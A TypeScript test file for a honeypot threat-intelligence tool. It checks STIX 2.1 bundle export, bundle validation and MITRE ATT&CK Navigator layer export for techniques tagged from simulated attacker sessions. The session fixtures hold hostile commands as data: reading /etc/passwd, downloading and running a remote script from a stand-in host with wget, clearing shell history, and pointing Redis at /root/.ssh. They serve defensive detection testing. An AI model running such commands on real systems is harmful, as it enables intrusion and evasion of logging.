// STIX 2.1 bundle and ATT&CK Navigator layer exports of tags from a real engine run.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { ROOT } from '../helpers/env.ts';
import { loadTtpEngine } from '../../src/intel/ttp/load-engine.ts';
import { createMatcher } from '../../src/intel/ttp/matcher.ts';
import { exportStix, type StixObject } from '../../src/intel/ttp/stix-export.ts';
import { validateStixBundle } from '../../src/intel/ttp/stix-validate.ts';
import { exportNavigator } from '../../src/intel/ttp/navigator-export.ts';
import { STIX_SCO_NAMESPACE, uuidv5 } from '../../src/intel/ttp/uuid5.ts';
import type { TtpEvent, TtpTag } from '../../src/intel/ttp/types.ts';

const { engine } = await loadTtpEngine({ rulesDir: join(ROOT, 'rules/ttp'), cataloguePath: join(ROOT, 'data/attack/enterprise-18.1.json') });
const catalogue = engine.catalogue;

function session(ip: string, decky: string, startMs: number): TtpEvent[] {
  const base = { decky, service: 'ssh', attacker_ip: ip };
  let t = startMs;
  const auth = (pw: string, ok: boolean): TtpEvent => ({ ...base, ts: t++, event: 'auth_attempt', fields: { username: 'root', success: String(ok), secret_b64: Buffer.from(pw).toString('base64') } });
  const cmd = (command: string): TtpEvent => ({ ...base, ts: t++, event: 'command', fields: { command } });
  return [auth('a', false), auth('b', false), auth('admin', true), cmd('uname -a; cat /etc/passwd'), cmd('wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh'), cmd('history -c')];
}

const matcher = createMatcher(engine);
const tags: TtpTag[] = [
  ...session('203.0.113.50', 'decky-01', Date.parse('2026-05-01T12:00:00Z')),
  ...session('2001:db8::77', 'decky-02', Date.parse('2026-05-01T13:00:00Z')),
  { ts: '2026-05-01T14:00:00Z', decky: 'decky-03', service: 'redis', event: 'config_set', attacker_ip: '198.51.100.3', fields: { param: 'dir', value: '/root/.ssh' } },
].flatMap((e) => matcher.match(e));

test('the STIX bundle is valid STIX 2.1 and references MITRE attack patterns', () => {
  assert.ok(tags.length >= 20);
  const bundle = exportStix(tags, { catalogue });
  assert.deepEqual(validateStixBundle(bundle), []);
  assert.match(bundle.id, /^bundle--[0-9a-f-]{36}$/);

  const of = (type: string): StixObject[] => bundle.objects.filter((o) => o.type === type);
  assert.equal(of('identity').length, 1);
  assert.equal(of('sighting').length, tags.length);
  assert.equal(of('observed-data').length, tags.length);
  assert.deepEqual(of('ipv4-addr').map((o) => o.value).sort(), ['198.51.100.3', '203.0.113.50']);
  assert.deepEqual(of('ipv6-addr').map((o) => o.value), ['2001:db8::77']);
  // SCO ids follow STIX 2.1's deterministic scheme (UUIDv5 of the canonical id-contributing properties).
  assert.equal(of('ipv4-addr').find((o) => o.value === '203.0.113.50')!.id, `ipv4-addr--${uuidv5(STIX_SCO_NAMESPACE, '{"value":"203.0.113.50"}')}`);

  const patterns = of('attack-pattern');
  assert.equal(patterns.length, new Set(tags.map((t) => t.technique_id)).size);
  const clear = patterns.find((p) => (p.external_references as { external_id: string }[])[0]!.external_id === 'T1070.003')!;
  assert.equal(clear.id, catalogue.techniques.get('T1070.003')!.stixId);
  assert.deepEqual(clear.external_references, [{ source_name: 'mitre-attack', external_id: 'T1070.003', url: 'https://attack.mitre.org/techniques/T1070/003' }]);
  assert.deepEqual(clear.kill_chain_phases, [{ kill_chain_name: 'mitre-attack', phase_name: 'defense-evasion' }]);

  const tag = tags.find((t) => t.technique_id === 'T1070.003')!;
  const sighting = of('sighting').find((s) => s.x_decnet_tag_id === tag.id)!;
  assert.equal(sighting.sighting_of_ref, clear.id);
  assert.equal(sighting.confidence, 90);
  assert.equal(sighting.first_seen, tag.ts);
  assert.match(String(sighting.description), /T1070\.003 Clear Command History by 203\.0\.113\.50 on decky-01\/ssh: command history -c/);
  assert.deepEqual(sighting.x_decnet_evidence, tag.evidence);
});

test('the same tags export to the same bundle', () => {
  assert.deepEqual(exportStix(tags, { catalogue }), exportStix([...tags], { catalogue }));
  assert.notEqual(exportStix(tags, { catalogue }).id, exportStix(tags.slice(1), { catalogue }).id);
});

test('the validator catches broken bundles', () => {
  const good = exportStix(tags.slice(0, 3), { catalogue });
  const clone = (): { type: string; id: string; objects: StixObject[] } => JSON.parse(JSON.stringify(good));
  const broken = (mutate: (b: ReturnType<typeof clone>) => void): string[] => {
    const b = clone();
    mutate(b);
    return validateStixBundle(b);
  };
  const sightingIndex = good.objects.findIndex((o) => o.type === 'sighting');
  assert.match(broken((b) => (b.objects[sightingIndex]!.sighting_of_ref = 'attack-pattern--00000000-0000-4000-8000-000000000000')).join('\n'), /sighting_of_ref → attack-pattern--0{8}-.* is not in the bundle/);
  assert.match(broken((b) => (b.objects[0]!.id = 'identity--not-a-uuid')).join('\n'), /id must be identity--<RFC 4122 UUID>/);
  assert.match(broken((b) => (b.objects[0]!.id = 'indicator--' + b.objects[0]!.id.split('--')[1])).join('\n'), /does not match type "identity"/);
  assert.match(broken((b) => delete b.objects[0]!.spec_version).join('\n'), /spec_version must be "2\.1"/);
  assert.match(broken((b) => (b.objects[0]!.modified = '2020-01-01T00:00:00.000Z')).join('\n'), /modified is earlier than created/);
  assert.match(broken((b) => (b.objects[0]!.created = '2026-05-01 12:00')).join('\n'), /created must be an RFC 3339 UTC timestamp/);
  assert.match(broken((b) => (b.objects[sightingIndex]!.confidence = 101)).join('\n'), /confidence must be a whole number from 0 to 100/);
  assert.match(broken((b) => (b.objects[sightingIndex]!.decnet_rule = 'x')).join('\n'), /property decnet_rule is not defined for sighting/);
  assert.match(broken((b) => (b.objects[sightingIndex]!.where_sighted_refs = [b.objects[sightingIndex]!.sighting_of_ref])).join('\n'), /where_sighted_refs .* must not point at a attack-pattern/);
  assert.match(broken((b) => b.objects.push(b.objects[0]!)).join('\n'), /appears more than once/);
  const od = good.objects.findIndex((o) => o.type === 'observed-data');
  assert.match(broken((b) => (b.objects[od]!.number_observed = 0)).join('\n'), /number_observed must be a whole number from 1/);
  assert.match(broken((b) => delete b.objects[od]!.object_refs).join('\n'), /required property object_refs is missing/);
  assert.deepEqual(validateStixBundle({ type: 'bundle', id: 'bundle--x', objects: [] }), ['bundle: id "bundle--x" must be bundle--<RFC 4122 UUID>', 'bundle: objects must be a non-empty list']);
});

test('the Navigator layer has the 4.5 format fields and scores techniques by tag count', () => {
  const layer = exportNavigator(tags, { catalogue, name: 'test layer' });
  assert.equal(layer.name, 'test layer');
  assert.deepEqual(layer.versions, { attack: '18', navigator: '5.2.0', layer: '4.5' });
  assert.equal(layer.domain, 'enterprise-attack');
  assert.ok(layer.gradient.colors.length >= 2 && layer.gradient.maxValue > layer.gradient.minValue);
  assert.equal(JSON.parse(JSON.stringify(layer)).techniques.length, layer.techniques.length);

  const entry = (id: string) => layer.techniques.find((t) => t.techniqueID === id);
  const clear = entry('T1070.003')!;
  assert.equal(clear.score, 2);
  assert.match(clear.comment!, /^2 tags from 2 attackers \(203\.0\.113\.50, 2001:db8::77\) on decky-01, decky-02; rules: shell-history-clear; e\.g\. ssh command: history -c$/);
  assert.deepEqual(clear.links, [{ label: 'T1070.003 Clear Command History', url: 'https://attack.mitre.org/techniques/T1070/003' }]);
  // Each tagged technique appears once with score = its number of tags.
  const counts = new Map<string, number>();
  for (const t of tags) counts.set(t.technique_id, (counts.get(t.technique_id) ?? 0) + 1);
  for (const [id, n] of counts) assert.equal(entry(id)?.score, n, id);
  // A parent of a tagged sub-technique is listed so the matrix expands it.
  assert.deepEqual(entry('T1070'), { techniqueID: 'T1070', showSubtechniques: true });
  assert.equal(entry('T1098')?.showSubtechniques, true);
  assert.equal(layer.gradient.maxValue, Math.max(...counts.values()));
  for (const t of layer.techniques) assert.match(t.techniqueID, /^T\d{4}(\.\d{3})?$/);
});

test('exports refuse tags whose technique is unknown', () => {
  const bad = { ...tags[0]!, technique_id: 'T9999' };
  assert.throws(() => exportStix([bad], { catalogue }), /T9999 is not in ATT&CK 18\.1/);
  assert.throws(() => exportNavigator([bad], { catalogue }), /T9999 is not in ATT&CK 18\.1/);
  assert.deepEqual(validateStixBundle(exportStix([], { catalogue })), [], 'an empty export still holds the identity');
});
